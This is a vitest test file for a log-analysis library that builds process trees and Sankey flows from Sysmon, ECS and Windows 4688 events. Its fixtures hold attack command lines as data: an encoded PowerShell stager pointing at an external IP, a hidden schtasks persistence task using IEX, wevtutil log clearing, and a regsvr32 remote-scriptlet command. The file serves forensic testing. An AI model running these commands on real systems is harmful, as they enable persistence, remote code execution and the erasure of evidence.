import { readFileSync } from "node:fs";
import { describe, expect, it } from "vitest";
import { Dataset, ingestBytes, processSankey, processTree, processTreeForEvent, type ProcessTree } from "../../src/index.ts";
import { load, proc, PS, security4688, sysmon, SYS32 } from "./fixtures.ts";

const psEncode = (script: string) => Buffer.from(script, "utf16le").toString("base64");
const STAGER = "$ser='https://45.77.65.211:443';$t='/login/process.php'";
const UPDATER = `"C:\\Windows\\system32\\schtasks.exe"  /Create /F /RU system /SC DAILY /ST 10:26 /TN Updater /TR "powershell.exe -NonI -W hidden -c \\"IEX (gp HKLM:\\Software\\Microsoft\\Network debug).debug\\""`;

/** wrk-btun: WINWORD (not in the data) → encoded powershell → ftp, whoami, schtasks; a library load and a connection; venus reuses the pids. */
const BTUN = [
  proc("wrk-btun", "2017-08-24T03:40:00.000Z", 4000, PS, 3500, "C:\\Program Files\\Microsoft Office\\WINWORD.EXE", {
    CommandLine: `powershell -noP -sta -w 1 -enc ${psEncode(STAGER)}`,
    User: "FROTHLY\\billy.tun",
  }),
  sysmon(7, "wrk-btun", "2017-08-24T03:40:00.500Z", { ProcessGuid: "{g-wrk-btun-4000}", ProcessId: 4000, Image: PS, ImageLoaded: SYS32 + "amsi.dll" }),
  proc("wrk-btun", "2017-08-24T03:41:00.000Z", 4100, SYS32 + "ftp.exe", 4000, PS, { CommandLine: '"C:\\Windows\\system32\\ftp.exe" -i -s:winsys32.dll' }),
  sysmon(3, "wrk-btun", "2017-08-24T03:41:01.000Z", {
    ProcessGuid: "{g-wrk-btun-4100}",
    ProcessId: 4100,
    Image: SYS32 + "ftp.exe",
    Protocol: "tcp",
    SourceIp: "10.0.2.107",
    SourcePort: 49812,
    DestinationIp: "160.153.91.7",
    DestinationPort: 21,
  }),
  proc("wrk-btun", "2017-08-24T03:42:00.000Z", 4200, SYS32 + "whoami.exe", 4000, PS),
  proc("wrk-btun", "2017-08-24T03:45:03.000Z", 4300, SYS32 + "schtasks.exe", 4000, PS, { CommandLine: UPDATER }),
  proc("venus", "2017-08-24T04:12:36.000Z", 4100, SYS32 + "whoami.exe", 4000, PS),
].join("\n");

/** Indented "name pid" lines, depth-first: a readable picture of the tree. */
function draw(t: ProcessTree): string[] {
  const out: string[] = [];
  const walk = (id: number, depth: number) => {
    const n = t.nodes[id];
    out.push(`${"  ".repeat(depth)}${n.name} ${n.pid ?? "?"}${n.inferred ? " (inferred)" : ""}`);
    for (const c of n.children) walk(c, depth + 1);
  };
  for (const r of t.roots) walk(r, 0);
  return out;
}

describe("processTree: Sysmon process creations", () => {
  const ds = load(["btun.xml", BTUN]);

  it("builds wrk-btun's tree: ftp, whoami and schtasks under the encoded PowerShell, under an inferred WINWORD", () => {
    const t = processTree(ds, { host: "wrk-btun" });
    expect(t.processes).toBe(4);
    expect(draw(t)).toEqual(["WINWORD.EXE 3500 (inferred)", "  powershell.exe 4000", "    ftp.exe 4100", "    whoami.exe 4200", "    schtasks.exe 4300"]);
    const ps = t.nodes.find((n) => n.name === "powershell.exe")!;
    expect(ps).toMatchObject({ user: "FROTHLY\\billy.tun", time: Date.UTC(2017, 7, 24, 3, 40), host: "wrk-btun", guid: "{g-wrk-btun-4000}" });
    expect(ps.decodedCommandLine).toBe(`powershell -noP -sta -w 1 -enc ${STAGER}`);
    expect(ps.libraries).toEqual([{ name: "amsi.dll", path: SYS32 + "amsi.dll", time: Date.UTC(2017, 7, 24, 3, 40, 0, 500), seq: 1 }]);
    const ftp = t.nodes.find((n) => n.name === "ftp.exe")!;
    expect(ftp.network).toEqual([
      { time: Date.UTC(2017, 7, 24, 3, 41, 1), seq: 3, srcIp: "10.0.2.107", srcPort: "49812", destIp: "160.153.91.7", destPort: "21", transport: "tcp" },
    ]);
    expect(t.nodes.find((n) => n.name === "schtasks.exe")!.commandLine).toBe(UPDATER);
  });

  it("keeps hosts apart: venus's pid 4100 is whoami under its own inferred powershell", () => {
    const t = processTree(ds, {});
    expect(draw(t)).toEqual([
      "WINWORD.EXE 3500 (inferred)",
      "  powershell.exe 4000",
      "    ftp.exe 4100",
      "    whoami.exe 4200",
      "    schtasks.exe 4300",
      "powershell.exe 4000 (inferred)",
      "  whoami.exe 4100",
    ]);
  });

  it("honours a time range", () => {
    const t = processTree(ds, { host: "wrk-btun", timeRange: { earliest: Date.UTC(2017, 7, 24, 3, 41), latest: Date.UTC(2017, 7, 24, 3, 43) } });
    // powershell's creation is out of range, so it is inferred from its children's parent fields.
    expect(draw(t)).toEqual(["powershell.exe 4000 (inferred)", "  ftp.exe 4100", "  whoami.exe 4200"]);
  });

  it("shows one event in its tree: ancestors and descendants only", () => {
    // seq 3 is ftp.exe's network connection (file order).
    const t = processTreeForEvent(ds, 3)!;
    expect(draw(t)).toEqual(["WINWORD.EXE 3500 (inferred)", "  powershell.exe 4000", "    ftp.exe 4100"]);
    expect(t.nodes[t.focus!].name).toBe("ftp.exe");
    const whole = processTreeForEvent(ds, 0)!;
    expect(draw(whole)).toHaveLength(5);
    expect(whole.nodes[whole.focus!].name).toBe("powershell.exe");
    expect(processTreeForEvent(ds, 999)).toBeNull();
  });

  it("caps the number of processes and says so", () => {
    const t = processTree(ds, { host: "wrk-btun" }, { maxProcesses: 2 });
    expect(t.omitted).toBe(2);
    expect(t.note).toMatch(/first 2 of 4 processes/);
    expect(draw(t)).toEqual(["WINWORD.EXE 3500 (inferred)", "  powershell.exe 4000", "    ftp.exe 4100"]);
  });
});

describe("processTree: matching by pid when there are no GUIDs (ECS NDJSON)", () => {
  const lines = [
    { "@timestamp": "2017-08-24T05:00:00Z", host: { name: "mercury" }, event: { category: "process", type: "start" }, process: { pid: 100, name: "powershell.exe", parent: { pid: 50, name: "wmiprvse.exe" } } },
    { "@timestamp": "2017-08-24T05:01:00Z", host: { name: "mercury" }, event: { category: "process", type: "start" }, process: { pid: 200, name: "whoami.exe", parent: { pid: 100, name: "powershell.exe" } } },
    { "@timestamp": "2017-08-24T05:02:00Z", host: { name: "mercury" }, event: { category: "process", type: "end" }, process: { pid: 100, name: "powershell.exe" } },
    // pid 100 reused by notepad: its child must hang under notepad, not the old powershell.
    { "@timestamp": "2017-08-24T05:03:00Z", host: { name: "mercury" }, event: { category: "process", type: "start" }, process: { pid: 100, name: "notepad.exe", parent: { pid: 60, name: "explorer.exe" } } },
    { "@timestamp": "2017-08-24T05:04:00Z", host: { name: "mercury" }, event: { category: "process", type: "start" }, process: { pid: 300, name: "cmd.exe", parent: { pid: 100, name: "notepad.exe" } } },
    { "@timestamp": "2017-08-24T05:05:00Z", host: { name: "mercury" }, event: { category: "network" }, process: { pid: 100 }, destination: { ip: "45.77.65.211", port: 443 } },
  ];
  const ds = load(["ecs.json", lines.map((l) => JSON.stringify(l)).join("\n")]);

  it("links children to the latest process with the parent pid, and attaches by pid and time", () => {
    const t = processTree(ds, { host: "mercury" });
    expect(t.processes).toBe(4);
    expect(draw(t)).toEqual(["wmiprvse.exe 50 (inferred)", "  powershell.exe 100", "    whoami.exe 200", "explorer.exe 60 (inferred)", "  notepad.exe 100", "    cmd.exe 300"]);
    expect(t.nodes.find((n) => n.name === "notepad.exe")!.network.map((c) => `${c.destIp}:${c.destPort}`)).toEqual(["45.77.65.211:443"]);
    expect(t.nodes.find((n) => n.name === "powershell.exe")!.network).toEqual([]);
  });
});

describe("processTree: the Atomic Red Team regsvr32 data (shared/datasets/atomic-regsvr32)", () => {
  const ds = new Dataset();
  ingestBytes(ds, "regsvr32.json", readFileSync(new URL("../../../../../shared/datasets/atomic-regsvr32/normalized-T1117-AtomicRed-regsvr32.json", import.meta.url)));

  it("shows regsvr32.exe under its parent cmd.exe, with scrobj.dll loaded and its network event", () => {
    const t = processTree(ds, {});
    // PROVENANCE: 2 process creations (cmd.exe, regsvr32.exe), each with a parent that has no creation event.
    expect(t.processes).toBe(2);
    expect(draw(t)).toEqual(["powershell.exe 7036 (inferred)", "  cmd.exe 2012", "cmd.exe 2652 (inferred)", "  regsvr32.exe 2012"]);
    const reg = t.nodes.find((n) => n.name === "regsvr32.exe")!;
    expect(reg.commandLine).toBe("regsvr32.exe  /s /u /i:https://raw.githubusercontent.com/redcanaryco/atomic-red-team/master/atomics/T1117/RegSvr32.sct scrobj.dll");
    expect(reg.user).toBe("ART-DESKTOP\\bob");
    const scrobj = reg.libraries.filter((l) => l.name === "scrobj.dll");
    expect(scrobj).toHaveLength(1);
    // FILETIME 131883573237450016 (100 ns ticks since 1601) → ms since 1970: ticks / 1e4 − 11644473600000.
    expect(scrobj[0].time).toBeCloseTo(131883573237450016 / 1e4 - 11644473600000, 1);
    expect(reg.network).toHaveLength(1);
    expect(reg.network[0]).toMatchObject({ srcIp: "192.168.162.134", srcPort: "50505", destIp: "151.101.48.133", destPort: "443", transport: "tcp" });
    // PROVENANCE: 89 library documents, 143 regsvr32.exe documents and 7 cmd.exe ones; all attach by entity_id.
    const cmd = t.nodes.find((n) => n.name === "cmd.exe" && !n.inferred)!;
    expect(reg.libraries.length + cmd.libraries.length).toBe(89);
  });
});

describe("processTree and processSankey: Windows Security 4688", () => {
  // wrk-klagerf: powershell (0x1b00) starts wevtutil (0x1a2c) twice and whoami; pids are hex, ProcessId is the creator.
  const ds = load([
    "security.xml",
    [
      security4688("wrk-klagerf", "2017-08-26T05:30:00.000Z", 0x1b00, PS, 0x2f0, SYS32 + "wbem\\WmiPrvSE.exe", "service3", "powershell -noP -sta -w 1 -enc SQBFAFgA"),
      security4688("wrk-klagerf", "2017-08-26T05:30:29.000Z", 0x1a2c, SYS32 + "wevtutil.exe", 0x1b00, PS, "service3", "wevtutil cl Security"),
      security4688("wrk-klagerf", "2017-08-26T05:30:30.000Z", 0x1a30, SYS32 + "wevtutil.exe", 0x1b00, PS, "service3", "wevtutil cl System"),
      security4688("wrk-klagerf", "2017-08-26T05:31:00.000Z", 0x1a40, SYS32 + "whoami.exe", 0x1b00, PS, "service3", "whoami"),
    ].join("\n"),
  ]);

  it("reads NewProcessId as the process and ProcessId as its creator", () => {
    const t = processTree(ds, { host: "wrk-klagerf" });
    expect(draw(t)).toEqual(["WmiPrvSE.exe 752 (inferred)", "  powershell.exe 6912", "    wevtutil.exe 6700", "    wevtutil.exe 6704", "    whoami.exe 6720"]);
    expect(t.nodes.find((n) => n.pid === 6700)).toMatchObject({ commandLine: "wevtutil cl Security", user: "service3" });
    // "SQBFAFgA" is base64 of "IEX" in UTF-16LE.
    expect(t.nodes.find((n) => n.name === "powershell.exe")!.decodedCommandLine).toBe("powershell -noP -sta -w 1 -enc IEX");
  });

  it("draws the same chain as PPID → PID flows", () => {
    const r = processSankey(ds, {});
    expect(r.links.map((l) => `${r.nodes[l.source].label} → ${r.nodes[l.target].label}`).sort()).toEqual(
      ["WmiPrvSE.exe (752) → powershell.exe (6912)", "powershell.exe (6912) → wevtutil.exe (6700)", "powershell.exe (6912) → wevtutil.exe (6704)", "powershell.exe (6912) → whoami.exe (6720)"].sort(),
    );
  });
});
